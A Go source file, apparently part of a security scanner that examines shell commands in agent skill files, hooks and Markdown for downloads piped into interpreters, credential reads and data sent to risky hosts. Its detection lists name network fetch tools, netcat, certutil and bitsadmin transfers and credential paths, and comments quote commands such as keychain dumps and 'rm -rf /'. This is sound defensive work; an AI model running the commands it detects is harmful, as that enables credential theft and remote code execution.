// Package shellfacts is the facts layer for shell: the shell sites of a
// file (scripts, Markdown code blocks, JSON hooks, PowerShell) and their
// commands (ForEachSite, ForEachCommand), and what rules ask about a
// command: downloader, interpreter, pipe sink, output file, files it runs,
// credentials it reads, data it sends and where, and how risky its hosts
// are.
package shellfacts

import (
	"github.com/skillvet/skillvet/facts/coderole"
	"github.com/skillvet/skillvet/facts/match"
	"github.com/skillvet/skillvet/skill"
	"path"
	"sort"
	"strconv"
	"strings"

	"github.com/skillvet/skillvet/analyzer"
	"github.com/skillvet/skillvet/intel"
	"github.com/skillvet/skillvet/parse/shell"
)

// Helpers shared by the command rules (SV12x, SV25x, SV42x, SV50x, SV60x,
// SV72x). They work on analyzer.ShellSites, so every rule sees scripts,
// Markdown code blocks and spans, dynamic-context lines and hooks alike.

// Inputs is what the command rules read.
const Inputs = analyzer.InShell | analyzer.InMarkdown | analyzer.InJSON | analyzer.InPowerShell

// ForEachSite calls fn for every shell site of the file.
func ForEachSite(p *analyzer.Pass, fn func(site *analyzer.ShellSite)) error {
	sites, err := p.ShellSites()
	if err != nil {
		return err
	}
	for i := range sites {
		fn(&sites[i])
	}
	return nil
}

// ForEachCommand calls fn for every command of every shell site of the file.
func ForEachCommand(p *analyzer.Pass, fn func(site *analyzer.ShellSite, c *shell.Command)) error {
	return ForEachSite(p, func(site *analyzer.ShellSite) {
		for _, c := range site.Script.Commands {
			fn(site, c)
		}
	})
}

// EachParsedCommand calls fn for every command of the file's shell sites
// that parsed, also when others did not: an extractor takes what it can,
// and the command rules report what does not parse.
func EachParsedCommand(p *analyzer.Pass, fn func(site *analyzer.ShellSite, c *shell.Command)) {
	sites, _ := p.ShellSites()
	for i := range sites {
		if s := &sites[i]; s.Script != nil {
			for _, c := range s.Script.Commands {
				fn(s, c)
			}
		}
	}
}

// Where describes a site for messages.
func Where(s *analyzer.ShellSite) string {
	switch s.Kind {
	case analyzer.SiteDynamic:
		return " in a dynamic context command that runs at render time"
	case analyzer.SiteHook:
		return " in a hook command that runs on agent events"
	case analyzer.SiteMCP:
		return " in an MCP server command the agent starts"
	}
	return ""
}

// stagedFrom says where the staged variables that text reads are set:
// " ($RT_URL set in references/vars.md)".
func stagedFrom(vs []analyzer.StagedVar, text string) string {
	if len(vs) == 0 || !strings.Contains(text, "$") {
		return ""
	}
	var paths []string
	names := map[string][]string{}
	for _, v := range vs {
		if !strings.Contains(text, "$"+v.Name) && !strings.Contains(text, "${"+v.Name) {
			continue
		}
		if names[v.Path] == nil {
			paths = append(paths, v.Path)
		}
		names[v.Path] = append(names[v.Path], "$"+v.Name)
	}
	if len(paths) == 0 {
		return ""
	}
	sort.Strings(paths)
	parts := make([]string, len(paths))
	for i, p := range paths {
		parts[i] = strings.Join(names[p], ", ") + " set in " + p
	}
	return " (" + strings.Join(parts, "; ") + ")"
}

// Report reports a finding about a shell site, except for code spans that
// prose quotes as a warning or an example ("never run `rm -rf /`"): those
// are not instructions.
func Report(p *analyzer.Pass, s *analyzer.ShellSite, d analyzer.Diagnostic) {
	if (s.Kind == analyzer.SiteCodeSpan || s.Kind == analyzer.SiteProse) && s.Cautioned {
		return
	}
	// Code that the text around it presents as an attack, a bad example
	// or a pattern to detect (facts/coderole) is an illustration, not an
	// instruction: it warns instead of blocking. Code the text tells the
	// agent to run, and anything that runs at render time, keeps its grade.
	sev := d.Severity
	if sev == analyzer.SevNone && p.Rule != nil {
		sev = p.Rule.Severity // the rule's default, which the pass applies
	}
	if (s.Kind == analyzer.SiteCodeBlock || s.Kind == analyzer.SiteCodeSpan) && sev > analyzer.Medium && d.Kind != analyzer.EvIntegrity {
		if j := coderole.Of(p).At(d.Start); j.Role == coderole.Illustration {
			d.Severity = analyzer.Medium
			d.Message += "; shown as an illustration: " + j.Why
		} else if c := warningComment(p.File, d.Start); c != "" && sev == analyzer.High {
			// "chmod 777 /host/path  # Not recommended for production":
			// the line's own comment presents it as what not to do.
			// Critical findings keep their grade: a comment is free.
			d.Severity = analyzer.Medium
			d.Message += "; its comment says " + strconv.Quote(c)
		}
	}
	if len(s.Staged) > 0 && d.Start >= 0 && d.Start < d.End && d.End <= len(p.File.Content) && d.File == "" {
		d.Message += stagedFrom(s.Staged, string(p.File.Content[d.Start:d.End]))
	}
	p.Report(d)
}

// catalogueRunVerbRx: the verb that makes a table cell a step to carry out.
var catalogueRunVerbRx = match.MustRx(`(?i)\b(?:run|execute|type|paste|enter)\b`)

// CatalogueCell reports a code span in a Markdown table row that does not
// tell the reader to run it: a row of a catalogue of what attackers or
// tools do ("| ` + "`setenforce 0`" + ` | SELinux stops enforcing |"). A cell that says
// to run it ("| 2 | run ` + "`…`" + ` |") is a step.
func CatalogueCell(p *analyzer.Pass, s *analyzer.ShellSite) bool {
	if s.Kind != analyzer.SiteCodeSpan {
		return false
	}
	f := p.File
	ln := f.Pos(s.Start).Line
	line := string(f.LineBytes(ln))
	if !strings.HasPrefix(strings.TrimSpace(line), "|") {
		return false
	}
	col := s.Start - f.LineStart(ln)
	if col < 0 || col > len(line) {
		return true
	}
	cell := line[:col]
	if k := strings.LastIndexByte(cell, '|'); k >= 0 {
		cell = cell[k+1:]
	}
	return !catalogueRunVerbRx.MatchString(cell)
}

// warningCommentRx matches a trailing shell comment that warns against
// the line it ends.
var warningCommentRx = match.MustRx(`(?i)\s#+\s*((?:not recommended|don'?t|do not|never|avoid|insecure|unsafe|bad practice|bad\b|dangerous|wrong|vulnerable|anti-?pattern)[^\n]{0,60})$`)

// warningComment returns the warning in the comment that ends the line
// of f holding off, or "".
func warningComment(f *skill.File, off int) string {
	if off < 0 || off >= len(f.Content) {
		return ""
	}
	if m := warningCommentRx.FindStringSubmatch(string(f.LineBytes(f.Pos(off).Line))); m != nil {
		return strings.TrimSpace(m[1])
	}
	return ""
}

// CmdEnd is the end offset of a command for reports.
func CmdEnd(c *shell.Command) int {
	if c.End > c.Start {
		return c.End
	}
	return c.Start
}

// ClipText collapses white space and clips s to n bytes for messages.
func ClipText(s string, n int) string {
	s = strings.Join(strings.Fields(s), " ")
	if len(s) <= n {
		return s
	}
	return s[:n] + "…"
}

var shDownloaders = map[string]bool{"curl": true, "wget": true, "fetch": true, "aria2c": true, "http": true,
	"https": true, "xh": true, "lwp-download": true, "lwp-request": true,
	"iwr": true, "irm": true, "invoke-webrequest": true, "invoke-restmethod": true, "wget2": true, "curlie": true}

// IsDownloader reports whether c fetches a URL.
func IsDownloader(c *shell.Command) bool {
	if shDownloaders[c.Name] {
		return true
	}
	switch c.Name {
	case "certutil":
		return HasArgFold(c, "-urlcache")
	case "bitsadmin":
		return HasArgFold(c, "/transfer")
	case "tftp", "ftp":
		return true
	}
	return false
}

// HasArgFold reports whether c has argument a, ignoring case.
func HasArgFold(c *shell.Command, a string) bool {
	for _, w := range c.Params() {
		if strings.EqualFold(w.Value, a) {
			return true
		}
	}
	return false
}

// HasArg reports whether c has one of the arguments as.
func HasArg(c *shell.Command, as ...string) bool {
	for _, w := range c.Params() {
		for _, a := range as {
			if w.Value == a {
				return true
			}
		}
	}
	return false
}

// HasShortFlag reports a short option cluster holding letter l (-fsSL has
// s), or the long form.
func HasShortFlag(c *shell.Command, l byte, long string) bool {
	for _, w := range c.Params() {
		v := w.Value
		if long != "" && (v == long || strings.HasPrefix(v, long+"=")) {
			return true
		}
		if len(v) > 1 && v[0] == '-' && v[1] != '-' && strings.IndexByte(v[1:], l) >= 0 {
			return true
		}
	}
	return false
}

// shFileNameRx: a word that reads as a file name, not a host without a
// scheme ("install.sh", "data.json": .sh is also a country domain).
var shFileNameRx = match.MustRx(`^[\w.-]+\.(?:sh|bash|zsh|py|js|mjs|ts|rb|pl|ps1|bat|cmd|json|ya?ml|toml|txt|md|csv|xml|html?|zip|tar|gz|tgz|xz|bz2|whl|deb|rpm|exe|msi|dmg|pkg|bin|so|dll|jar|log)$`)

// shOutputValue reports whether Argv[i] is the value of an option that
// names a local file or an identity, not where the command connects: an
// output file (curl -o F, --output F, wget -O F, --output-document F), a
// CA bundle, client certificate or key (curl --cacert ca-cert.pem, --cert,
// --key, wget --ca-certificate), a config, netrc, cookie or trace file, or
// the user name and password of --user. Options whose value is a host
// (--proxy, --resolve, --connect-to) are not among them.
func shOutputValue(c *shell.Command, i int) bool {
	if i < 2 {
		return false
	}
	o := c.Argv[i-1].Value
	switch c.Name {
	case "curl":
		return shCurlLocalValue[o]
	case "wget":
		return shWgetLocalValue[o]
	}
	switch o {
	case "-o", "--output", "-O", "--output-document", "--output-dir", "-P", "--directory-prefix":
		return true
	}
	return false
}

// shCurlLocalValue and shWgetLocalValue are the options of curl and wget
// that take a local file or an identity as their value (each program's
// own: wget's -c, -E and -K take no value, its -D takes domains).
var (
	shCurlLocalValue = map[string]bool{"-o": true, "--output": true, "--output-dir": true,
		"--cacert": true, "--capath": true, "--cert": true, "-E": true, "--key": true, "--crlfile": true,
		"--proxy-cacert": true, "--proxy-capath": true, "--proxy-cert": true, "--proxy-key": true,
		"-K": true, "--config": true, "--netrc-file": true, "-b": true, "--cookie": true, "-c": true, "--cookie-jar": true,
		"-D": true, "--dump-header": true, "--trace": true, "--trace-ascii": true, "--stderr": true, "--libcurl": true,
		"-u": true, "--user": true, "--proxy-user": true, "-U": true}
	shWgetLocalValue = map[string]bool{"-O": true, "--output-document": true, "-P": true, "--directory-prefix": true,
		"-o": true, "--output-file": true, "-a": true, "--append-output": true,
		"--ca-certificate": true, "--ca-directory": true, "--certificate": true, "--private-key": true,
		"--load-cookies": true, "--save-cookies": true, "--config": true, "--user": true, "--http-user": true}
)

var shBareHostRx = match.MustRx(`^(?:[a-z0-9-]+\.)+[a-z]{2,}(?::\d+)?(?:/|$)|^\d{1,3}(?:\.\d{1,3}){3}(?::\d+)?(?:/|$)`)

// URLs returns the URLs among a command's arguments (bare host/path
// arguments of downloaders count).
func URLs(c *shell.Command) []string { return urlArgs(c, false) }

// dataOptions are curl and wget options whose value is data the command
// sends or a header, not where it connects.
var dataOptions = map[string]bool{"-d": true, "--data": true, "--data-raw": true, "--data-binary": true,
	"--data-urlencode": true, "--data-ascii": true, "--json": true, "-F": true, "--form": true, "--form-string": true,
	"-H": true, "--header": true, "-e": true, "--referer": true, "-A": true, "--user-agent": true,
	"--post-data": true, "--body-data": true}

// notTargetOptions are curl and wget options whose value names a host or
// address the request is not sent to: the resolver asked for the name
// (--dns-servers), local addresses and interfaces, hosts excluded from
// the proxy.
var notTargetOptions = map[string]bool{"--dns-servers": true, "--dns-ipv4-addr": true, "--dns-ipv6-addr": true,
	"--dns-interface": true, "--interface": true, "--noproxy": true, "--no-proxy": true, "--bind-address": true}

// redirectOptions are curl options whose value sends the request to
// another address: --resolve HOST:PORT:ADDR, --connect-to
// HOST:PORT:ADDR:PORT. Over https with the certificate checked, the
// address only routes the request: the named host must answer for itself
// (reaching a site's origin behind its CDN), so the address counts as the
// target only over plain http or with -k/--insecure, where whoever holds
// the address answers.
var redirectOptions = map[string]bool{"--resolve": true, "--connect-to": true}

// tlsVerified reports a command whose every URL is https and which does
// not turn certificate checks off; with no URL written out (a command
// shortened to "curl --resolve h:443:ADDR ..."), port 443 stands for https.
func tlsVerified(c *shell.Command, port string) bool {
	n := 0
	for _, w := range c.Argv[1:] {
		v := w.Value
		if v == "-k" || v == "--insecure" || strings.HasPrefix(v, "-") && !strings.HasPrefix(v, "--") && strings.ContainsRune(v, 'k') && len(v) <= 6 {
			return false
		}
		for _, u := range intel.URLRx.FindAllString(v, -1) {
			if !strings.HasPrefix(strings.ToLower(u), "https://") {
				return false
			}
			n++
		}
	}
	return n > 0 || port == "443"
}

// TargetURLs are the URLs a command connects to: URLs except those in
// data it sends or headers (curl -d '{"url": "https://x.ngrok.io/hook"}'
// registers a webhook with the API it calls; it does not contact x).
func TargetURLs(c *shell.Command) []string { return urlArgs(c, true) }

func urlArgs(c *shell.Command, targets bool) []string {
	var out []string
	for i, w := range c.Argv {
		if i == 0 {
			continue
		}
		if targets {
			if i > 1 && dataOptions[c.Argv[i-1].Value] {
				continue
			}
			if k := strings.IndexByte(w.Value, '='); k > 0 && strings.HasPrefix(w.Value, "--") && dataOptions[w.Value[:k]] {
				continue
			}
			if i > 1 && notTargetOptions[c.Argv[i-1].Value] {
				continue
			}
			if i > 1 && redirectOptions[c.Argv[i-1].Value] && IsDownloader(c) {
				if f := strings.Split(w.Value, ":"); len(f) >= 3 && f[2] != "" && !tlsVerified(c, f[1]) {
					out = append(out, "http://"+strings.Trim(f[2], "[]"))
				}
				continue
			}
		}
		if m := intel.URLRx.FindAllString(w.Value, -1); m != nil {
			out = append(out, m...)
			continue
		}
		v := strings.ToLower(w.Value)
		if IsDownloader(c) && !strings.HasPrefix(v, "-") && shBareHostRx.MatchString(v) && !shOutputValue(c, i) && !shFileNameRx.MatchString(v) {
			out = append(out, "http://"+w.Value)
		}
	}
	return out
}

// HostRisk classifies the riskiest URL of a command: the class, the host
// and whether the scheme is plain http.
func HostRisk(us []string) (intel.HostClass, string, bool) {
	best, host, plain := intel.HostUnknown, "", false
	for _, u := range us {
		h, c := intel.URLClass(u)
		if c.Suspicious() && !best.Suspicious() || host == "" {
			best, host = c, h
		}
		if strings.HasPrefix(strings.ToLower(u), "http://") {
			plain = true
		}
	}
	return best, host, plain
}

// DescribeHost is " from HOST" for messages, with the host class when it
// is suspicious, or "" without a host.
func DescribeHost(c intel.HostClass, host string) string { return DescribeHostAs("from", c, host) }

// DescribeHostAs is DescribeHost with another preposition (" to HOST").
func DescribeHostAs(prep string, c intel.HostClass, host string) string {
	if host == "" {
		return ""
	}
	if c.Suspicious() {
		return " " + prep + " " + host + " (" + c.String() + ")"
	}
	return " " + prep + " " + host
}

var shInterpreters = map[string]bool{"sh": true, "bash": true, "zsh": true, "dash": true, "ksh": true, "ash": true,
	"mksh": true, "fish": true, "csh": true, "tcsh": true, "python": true, "python2": true, "python3": true,
	"node": true, "nodejs": true, "perl": true, "ruby": true, "php": true, "lua": true, "deno": true, "bun": true,
	"osascript": true, "iex": true, "invoke-expression": true, "powershell": true, "pwsh": true, "source": true,
	".": true, "eval": true, "tclsh": true, "Rscript": true, "jshell": true, "pypy": true, "pypy3": true}

// IsInterpreter reports whether a command name runs code it is given
// (shells, script interpreters, source, eval).
func IsInterpreter(name string) bool {
	if shInterpreters[name] {
		return true
	}
	return strings.HasPrefix(name, "python3.") || strings.HasPrefix(name, "python2.")
}

// shPassthrough commands forward their input to their output.
var shPassthrough = map[string]bool{"tee": true, "cat": true, "tr": true, "sed": true, "gunzip": true, "zcat": true,
	"gzip": true, "base64": true, "xxd": true, "rev": true, "openssl": true, "head": true, "tail": true, "dd": true,
	"bunzip2": true, "xz": true, "unxz": true, "iconv": true, "dos2unix": true, "sort": true, "awk": true}

// PipeSink follows c's output through pass-through filters and returns
// the command that consumes it, or nil.
func PipeSink(s *shell.Script, c *shell.Command) *shell.Command {
	for n := 0; c.PipeNext >= 0 && n < 16; n++ {
		c = s.Commands[c.PipeNext]
		if !shPassthrough[c.Name] {
			return c
		}
	}
	return nil
}

// PipeSinkInterp returns the interpreter c's output is piped into and
// runs as code (StdinIsCode): not one that hands it to a program as data.
// An interpreter whose stdin is redirected (python3 << 'EOF', sh <
// script.sh, bash <<< "$cmd") reads its program from there: what the pipe
// carries never reaches it.
func PipeSinkInterp(s *shell.Script, c *shell.Command) *shell.Command {
	if k := PipeSink(s, c); k != nil && IsInterpreter(k.Name) && StdinIsCode(k) && !stdinRedirected(k) {
		return k
	}
	return nil
}

// SubstRunner returns the interpreter that runs c's output as code when
// that output, through pass-through filters, is the value of a command or
// process substitution (eval "$(… | tr …)", sh -c "$(…)", bash <(…)), or
// nil. Only the last command of the substitution's pipeline gives it its
// value.
func SubstRunner(s *shell.Script, c *shell.Command) *shell.Command {
	for n := 0; c.PipeNext >= 0 && n < 16; n++ {
		c = s.Commands[c.PipeNext]
		if !shPassthrough[c.Name] {
			return nil
		}
	}
	if c.Via != shell.ViaSubst && c.Via != shell.ViaProcSubst {
		return nil
	}
	var runner *shell.Command
	Ancestors(s, c, func(a *shell.Command) bool {
		if IsInterpreter(a.Name) {
			runner = a
			return false
		}
		return a.Via == shell.ViaSubst || a.Via == shell.ViaProcSubst
	})
	return runner
}

// stdinRedirected reports a command whose standard input comes from a
// file, a here-document or a here-string rather than a pipe.
func stdinRedirected(c *shell.Command) bool {
	if c.Heuristic {
		return false // words picked out of prose: a "<" there is text (<!-- … -->), not a redirect
	}
	for _, r := range c.Redirs {
		switch r.Op {
		case "<", "<<", "<<-", "<<<":
			if r.Fd == "" || r.Fd == "0" {
				return true
			}
		}
	}
	return false
}

// shParentOf returns the command whose words held c (substitutions, -c,
// eval, stdin text), or nil.
func shParentOf(s *shell.Script, c *shell.Command) *shell.Command {
	if c.Parent >= 0 && c.Parent < len(s.Commands) {
		return s.Commands[c.Parent]
	}
	return nil
}

// Ancestors calls fn with each command that contains c, innermost first.
func Ancestors(s *shell.Script, c *shell.Command, fn func(*shell.Command) bool) {
	for n := 0; n < 32; n++ {
		c = shParentOf(s, c)
		if c == nil || !fn(c) {
			return
		}
	}
}

var shHomeRx = match.MustRx(`^(\$\{?HOME\}?|\$\{?USERPROFILE\}?|%USERPROFILE%|~[a-z_]*)(/|\\|$)`)

// NormPath rewrites $HOME/… and ${HOME}/… to ~/….
func NormPath(v string) string {
	if m := shHomeRx.FindStringSubmatchIndex(v); m != nil {
		return "~/" + strings.TrimLeft(v[m[1]:], "/\\")
	}
	return v
}

// shPublicEndRx matches the end of a path to SSH or GPG material that is
// public or settings, wherever the directory came from
// (${SSH_DIR:-$HOME/.ssh}/$name.pub): a public key, known_hosts,
// authorized_keys, the SSH client configuration (host names and options,
// as intel.MatchSecretCredentialPath holds too), GnuPG's configuration
// files and public keyring.
var shPublicEndRx = match.MustRx(`(?i)(?:\.pub|/known_hosts(?:\.old)?|/authorized_keys2?|/config|/(?:gpg|gpg-agent|dirmngr|scdaemon|common)\.conf|/pubring\.(?:kbx|gpg)|/trustdb\.gpg|/sshcontrol)["']?$`)

// shPasswordStoreRx matches a password manager's store as a path (its
// directory or a vault file), not the product's name in a URL or text.
var shPasswordStoreRx = match.MustRx(`(?i)(?:^|/|~)(?:1Password[^/]*|Bitwarden[^/]*|KeePass\w*|\.password-store)/|\.kdbx\b`)

var shTemplateEnvRx = match.MustRx(`(?i)\.env\.(example|sample|template|dist|defaults?|local\.example)\b`)

// CredentialIn returns the credential-path label found in v.
func CredentialIn(v string) (string, bool) {
	v = NormPath(strings.TrimPrefix(strings.TrimPrefix(v, "@"), "<"))
	if shTemplateEnvRx.MatchString(v) {
		return "", false
	}
	label, _, _, ok := intel.MatchCredentialPath(v)
	if ok && (label == "SSH keys" || label == "GPG keys") && shPublicEndRx.MatchString(v) {
		return "", false
	}
	if ok && label == "password manager" && !shPasswordStoreRx.MatchString(v) {
		return "", false // "https://vault.bitwarden.com": the product's name
	}
	return label, ok
}

// CredentialWords returns the credential label in c's arguments or
// input redirections.
func CredentialWords(c *shell.Command) (string, bool) {
	args := c.Params()
	if c.Name == "scp" || c.Name == "rsync" || c.Name == "sftp" {
		args = sshKeyUseDropped(c.Name, args) // scp -i KEY: the key logs in
	}
	return shCredentialRead(args, c)
}

// shCredentialRead looks for a credential path in words and in c's input
// redirections (cmd < ~/.aws/credentials reads too).
func shCredentialRead(words []shell.Word, c *shell.Command) (string, bool) {
	for i, w := range words {
		if shExcludeValue(words, i) {
			continue // --exclude='.env' keeps the file out
		}
		if l, ok := CredentialIn(w.Value); ok {
			return l, true
		}
	}
	for _, r := range c.Redirs {
		if r.Op == "<" {
			if l, ok := CredentialIn(r.Target.Value); ok {
				return l, true
			}
		}
	}
	return "", false
}

// shReaders read the files they are given.
var shReaders = map[string]bool{"cat": true, "less": true, "more": true, "head": true, "tail": true, "base64": true,
	"xxd": true, "od": true, "hexdump": true, "strings": true, "tar": true, "zip": true, "7z": true, "7za": true,
	"gzip": true, "bzip2": true, "xz": true, "scp": true, "rsync": true, "cp": true, "install": true, "grep": true, "rg": true,
	"awk": true, "sed": true, "sqlite3": true, "security": true, "openssl": true, "gpg": true, "jq": true,
	"yq": true, "type": true, "get-content": true, "gc": true, "dd": true, "python": true,
	"python3": true, "node": true, "curl": true, "wget": true, "nc": true, "ncat": true, "netcat": true, "find": true,
	"cut": true, "tac": true, "nl": true, "rev": true, "sort": true, "paste": true}

// ReadsCredential reports whether c reads a credential store.
func ReadsCredential(c *shell.Command) (string, bool) {
	if c.Name == "security" {
		for _, w := range c.Params() {
			switch w.Value {
			case "find-generic-password", "find-internet-password", "dump-keychain", "export":
				return "macOS keychain", true
			}
		}
		return "", false
	}
	if !shReaders[c.Name] {
		return shCredentialRead(nil, c)
	}
	if IsInterpreter(c.Name) && !HasCodeFlag(c) {
		// python3 tool.py --env-file ~/.env: a path handed to a program
		// (whose own code is analysed) is not a read here
		return shCredentialRead(nil, c)
	}
	if (c.Name == "grep" || c.Name == "rg" || c.Name == "egrep" || c.Name == "fgrep") &&
		(HasShortFlag(c, 'q', "--quiet") || HasShortFlag(c, 'c', "--count") || HasShortFlag(c, 'l', "--files-with-matches") || HasArg(c, "--silent")) {
		return "", false // asks whether a line is there; prints none of it
	}
	if (c.Name == "grep" || c.Name == "egrep") && grepSectionHeadersOnly(c) {
		return "", false // grep '^\[' ~/.aws/credentials: the profile names, none of the keys
	}
	if c.Name == "cut" && cutNamesOnly(c) {
		return "", false // cut -d= -f1 ~/.env: the names of the settings, none of the values
	}
	if c.Name == "find" && !shFindReads(c) {
		return "", false // find ~/.ssh -name '*.pub' -exec chmod 644 {} \;: names, not contents
	}
	args := c.Params()
	if c.Name == "curl" {
		args = curlKeyUseDropped(args)
	}
	if c.Name == "grep" || c.Name == "egrep" || c.Name == "fgrep" || c.Name == "rg" {
		args = grepPatternDropped(args)
	}
	if c.Name == "scp" || c.Name == "rsync" || c.Name == "sftp" {
		args = sshKeyUseDropped(c.Name, args)
	}
	if c.Name == "cp" || c.Name == "install" {
		args = copyReadArgs(c, args)
	} else if c.Name == "rsync" || c.Name == "scp" {
		if len(args) > 1 {
			args = args[:len(args)-1] // the last word is the destination
		}
	}
	return shCredentialRead(args, c)
}

// grepPatternDropped drops the pattern of a grep (or rg) that gives it as
// its first operand: `git diff --name-only | grep -E '\.npmrc|\.pem$'` names
// a credential file in what it searches for, and reads only its stdin. A
// grep given its patterns by -e or -f (or a short cluster holding e or f,
// whose value may be the next word) keeps every operand as a file it reads.
func grepPatternDropped(args []shell.Word) []shell.Word {
	for i, w := range args {
		v := w.Value
		if v == "--" {
			if i+1 < len(args) {
				return append(args[:i:i], args[i+2:]...)
			}
			return args
		}
		if strings.HasPrefix(v, "--regexp") || strings.HasPrefix(v, "--file") ||
			len(v) > 1 && v[0] == '-' && v[1] != '-' && strings.ContainsAny(v[1:], "ef") {
			return args
		}
		if !strings.HasPrefix(v, "-") || v == "-" {
			return append(args[:i:i], args[i+1:]...)
		}
	}
	return args
}

// cutNamesOnly reports a cut that splits lines at '=' and keeps only the
// first field: a dotenv file's setting names, not their values.
func cutNamesOnly(c *shell.Command) bool {
	delim, fields := "", ""
	ps := c.Params()
	for i := range ps {
		if v, ok := cutOption(ps, i, "-d", "--delimiter"); ok {
			delim = v
		} else if v, ok := cutOption(ps, i, "-f", "--fields"); ok {
			fields = v
		}
	}
	return delim == "=" && fields == "1"
}

// cutOption returns the value the word at i gives an option spelled short
// (-d =, -d=) or long (--delimiter =, --delimiter==).
func cutOption(ps []shell.Word, i int, short, long string) (string, bool) {
	switch v := ps[i].Value; {
	case v == short || v == long:
		if i+1 < len(ps) {
			return ps[i+1].Value, true
		}
		return "", true
	case strings.HasPrefix(v, long+"="):
		return v[len(long)+1:], true
	case strings.HasPrefix(v, short):
		return v[len(short):], true
	}
	return "", false
}

// copyReadArgs keeps the words of a cp or install that name what it reads:
// its sources. The destination is the last word, or the value of -t
// (--target-directory), after which every other operand is a source;
// install -d creates directories and reads nothing.
func copyReadArgs(c *shell.Command, args []shell.Word) []shell.Word {
	if c.Name == "install" && HasShortFlag(c, 'd', "--directory") {
		return nil
	}
	if !HasShortFlag(c, 't', "--target-directory") {
		if len(args) > 1 {
			return args[:len(args)-1]
		}
		return args
	}
	var out []shell.Word
	for i := 0; i < len(args); i++ {
		v := args[i].Value
		switch {
		case v == "-t" || v == "--target-directory":
			i++ // its value is the destination
		case strings.HasPrefix(v, "--target-directory="), strings.HasPrefix(v, "-t") && !strings.HasPrefix(v, "--"):
			// -tDIR, --target-directory=DIR
		default:
			out = append(out, args[i])
		}
	}
	return out
}

// shSectionHeaderRx matches a grep pattern that can only match a line
// opening with "[": an INI section header ([default], [profile dev]), as
// a profile lister greps for them. No alternation (| or \|) and no
// newline (a second pattern) can add other lines.
var shSectionHeaderRx = match.MustRx(`^\^(?:\\\[|\[\[\])[^|\n]*$`)

// shINIStores are the credential stores laid out as INI sections, whose
// header lines name profiles and hold no secret.
var shINIStores = map[string]bool{"AWS credentials": true, "PyPI token": true}

// grepSectionHeadersOnly reports a grep that prints only the section
// header lines of INI credential stores (grep -E '^\[.*\]$'
// ~/.aws/credentials): every pattern is anchored to a line opening with
// "[", and no option prints other lines (context -A/-B/-C/-NUM, -v, -z
// which makes the whole file one line, -f patterns from a file, -F which
// reads "^" literally). The profile names are printed, never a key.
func grepSectionHeadersOnly(c *shell.Command) bool {
	if HasShortFlag(c, 'A', "--after-context") || HasShortFlag(c, 'B', "--before-context") ||
		HasShortFlag(c, 'C', "--context") || HasShortFlag(c, 'v', "--invert-match") ||
		HasShortFlag(c, 'z', "--null-data") || HasShortFlag(c, 'f', "--file") ||
		HasShortFlag(c, 'F', "--fixed-strings") {
		return false
	}
	ps := c.Params()
	var pats []string
	var files []string
	for i := 0; i < len(ps); i++ {
		v := ps[i].Value
		switch {
		case v == "-e" || v == "--regexp":
			if i+1 >= len(ps) {
				return false
			}
			pats = append(pats, ps[i+1].Value)
			i++
		case strings.HasPrefix(v, "--regexp="):
			pats = append(pats, strings.TrimPrefix(v, "--regexp="))
		case strings.HasPrefix(v, "-") && len(v) > 1:
			if strings.IndexAny(v, "0123456789") >= 0 && !strings.HasPrefix(v, "--") {
				return false // -2: two lines of context
			}
			if strings.HasPrefix(v, "-e") && !strings.HasPrefix(v, "--") {
				return false // -e'…' glued: read no further
			}
		default:
			files = append(files, v)
		}
	}
	if len(pats) == 0 {
		if len(files) == 0 {
			return false
		}
		pats, files = files[:1], files[1:]
	}
	for _, pt := range pats {
		if !shSectionHeaderRx.MatchString(pt) {
			return false
		}
	}
	stores := 0
	for _, f := range files {
		if l, ok := CredentialIn(f); ok {
			if !shINIStores[l] {
				return false
			}
			stores++
		}
	}
	for _, r := range c.Redirs {
		if r.Op == "<" {
			if l, ok := CredentialIn(r.Target.Value); ok {
				if !shINIStores[l] {
					return false
				}
				stores++
			}
		}
	}
	return stores > 0
}

// shFindReads reports find running a program that reads the files it
// finds (-exec cat {}, -exec cp, -exec tar): listing, permission changes
// and deletion read no contents.
func shFindReads(c *shell.Command) bool {
	ps := c.Params()
	for i, w := range ps {
		if (w.Value == "-exec" || w.Value == "-execdir" || w.Value == "-ok") && i+1 < len(ps) {
			switch path.Base(ps[i+1].Value) {
			case "chmod", "chown", "chgrp", "rm", "ls", "stat", "touch", "echo", "basename", "dirname", "wc":
				continue
			}
			return true
		}
	}
	return false
}

// sshKeyUseDropped returns scp, sftp or rsync arguments without the key
// they log in with: scp's and sftp's -i KEY and -o IdentityFile=KEY, and
// rsync's remote shell (-e "ssh -i KEY", --rsh=…). The key signs the login; its content is not
// copied.
func sshKeyUseDropped(name string, args []shell.Word) []shell.Word {
	rsync := name == "rsync" // rsync's -i is --itemize-changes; its key is in -e
	out := make([]shell.Word, 0, len(args))
	for i := 0; i < len(args); i++ {
		v := args[i].Value
		switch {
		case !rsync && v == "-i", rsync && (v == "-e" || v == "--rsh"),
			!rsync && v == "-o" && i+1 < len(args) && strings.HasPrefix(strings.ToLower(args[i+1].Value), "identityfile"):
			i++ // the option's value
			continue
		case !rsync && strings.HasPrefix(v, "-i") && len(v) > 2,
			rsync && strings.HasPrefix(v, "--rsh="), !rsync && strings.HasPrefix(strings.ToLower(v), "-oidentityfile"):
			continue
		}
		out = append(out, args[i])
	}
	return out
}

// curlKeyOpts take a key, certificate or netrc file that curl uses to
// authenticate (an SSH key for sftp://, a TLS client key): the file signs or
// logs in; its content is not sent.
var curlKeyOpts = map[string]bool{"--key": true, "--cert": true, "-E": true, "--pubkey": true, "--netrc-file": true,
	"--proxy-key": true, "--proxy-cert": true}

// curlKeyUseDropped returns args without the values of curl's
// authentication options (--key ~/.ssh/id_rsa, --cert=client.pem).
func curlKeyUseDropped(args []shell.Word) []shell.Word {
	out := make([]shell.Word, 0, len(args))
	for i := 0; i < len(args); i++ {
		v := args[i].Value
		if curlKeyOpts[v] {
			i++ // the option's value
			continue
		}
		if name, _, ok := strings.Cut(v, "="); ok && strings.HasPrefix(v, "--") && curlKeyOpts[name] {
			continue
		}
		out = append(out, args[i])
	}
	return out
}

// shExcludeValue reports whether words[i] names what an archiver or
// copier leaves out (--exclude=.env, --exclude .env, -x .env for zip).
func shExcludeValue(words []shell.Word, i int) bool {
	v := strings.ToLower(words[i].Value)
	if strings.HasPrefix(v, "--exclude") || strings.HasPrefix(v, "--ignore") {
		return true
	}
	if i > 0 {
		switch strings.ToLower(words[i-1].Value) {
		case "--exclude", "--exclude-from", "--ignore", "-x", "--exclude-dir":
			return true
		}
	}
	return false
}

// HasCodeFlag reports an interpreter given its program inline (python -c,
// node -e, sh -c: InterpreterProgram). A flag after the program (python3
// -m zipfile -e a.zip, python3 tool.py -c cfg) is the program's argument.
